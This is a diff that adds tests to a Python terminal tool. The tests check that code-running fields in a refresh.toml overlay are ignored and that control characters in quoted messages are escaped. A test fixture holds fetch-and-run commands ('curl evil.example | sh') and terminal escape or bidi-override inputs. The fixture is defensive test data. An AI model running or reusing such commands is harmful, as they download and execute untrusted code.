@@ -423,3 +423,74 @@ async def test_serve_caps_sessions_and_terminal_size_and_ends_an_app_when_its_so
         assert app not in _children(process.pid)
         await _session(client, port)  # the freed place takes a new session
         await second.close()
+
+
+# 6. What runs as code never comes from refresh.toml ------------------------------------------------
+
+HOSTILE_REFRESH = """\
+[[framework]]
+id = "alpha"
+latest_version = "9.0"
+hello = { install = ["evil"], code = "import os", file = "app.py", run = "curl evil.example | sh", url = "http://127.0.0.1:8000/" }
+bench = { packages = ["evil"], code = "import os", server = "sh -c 'curl evil.example | sh'" }
+"""
+
+
+def test_refresh_toml_cannot_carry_fields_that_run_as_code(hermetic: Path, capsys) -> None:
+    (hermetic / "config").mkdir()
+    (hermetic / "config" / dataset.REFRESH_NAME).write_text(HOSTILE_REFRESH, encoding="utf-8")
+    notices: list[str] = []
+    alpha = dataset.load(MINIMAL, None, notices).framework("alpha")
+    assert alpha.latest_version == "9.0"  # the facts it may carry are taken
+    assert "curl" not in alpha.hello.run and "curl" not in alpha.bench.server and "evil" not in alpha.bench.packages
+    assert len(notices) == 1 and 'bench and hello of "alpha" ignored: fields that run as code' in notices[0]
+    code, _, err = run(capsys, "--data", str(MINIMAL), "list")
+    assert code == 0 and "warning:" in err and "fields that run as code" in err
+
+
+def test_refresh_never_writes_code_fields_it_finds_in_an_old_refresh_toml(hermetic: Path, index_server: Index, capsys) -> None:
+    import tomllib
+
+    (hermetic / "config").mkdir()
+    overlay = hermetic / "config" / dataset.REFRESH_NAME
+    overlay.write_text(HOSTILE_REFRESH, encoding="utf-8")
+    data = make_dataset(hermetic, {"beta": "django"})
+    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "beta")
+    assert code == 0, err
+    written = tomllib.loads(overlay.read_text(encoding="utf-8"))
+    assert [record["id"] for record in written["framework"]] == ["alpha", "beta"]
+    assert all(field not in record for record in written["framework"] for field in dataset.CODE_FIELDS)
+
+
+def test_bench_help_says_its_fields_run_as_code(capsys) -> None:
+    with pytest.raises(SystemExit):
+        main(["bench", "--help"])
+    assert "run as code" in " ".join(capsys.readouterr().out.split())
+
+
+# 7. Messages quote outside text with its control characters escaped ----------------------------------
+
+RAW_CONTROL = ("\x1b", "\x07", "\u202e")
+
+
+def test_an_index_answer_quoted_in_a_message_is_escaped(tmp_path: Path, index_server: Index, capsys) -> None:
+    data = make_dataset(tmp_path, {"alpha": "redirect-escape"})
+    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "alpha", "--timeout", "2")
+    assert code == 1 and "which is not an http(s) URL" in err and "\\x1b]52" in err
+    assert not any(c in err for c in RAW_CONTROL)
+
+
+def test_file_names_and_config_keys_quoted_in_messages_are_escaped(tmp_path: Path, index_server: Index, capsys) -> None:
+    from fwtui.config import load
+
+    folder = tmp_path / "da\x1b[2Jta\u202e"
+    folder.mkdir()
+    (folder / "config.toml").write_text('"unknown\\u202ekey" = 1\n[keymap]\n"x\\u202e" = ""\n', encoding="utf-8")
+    problems = load(folder / "config.toml").problems
+    assert problems and all("\\x1b[2J" in problem for problem in problems)
+    assert not any(c in problem for problem in problems for c in RAW_CONTROL)
+    pytest.importorskip("tomlkit")
+    data = make_dataset(folder, {"alpha": "django"})
+    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "alpha", "--apply")
+    assert code == 0 and "updated" in err and "\\x1b[2J" in err
+    assert not any(c in err for c in RAW_CONTROL)
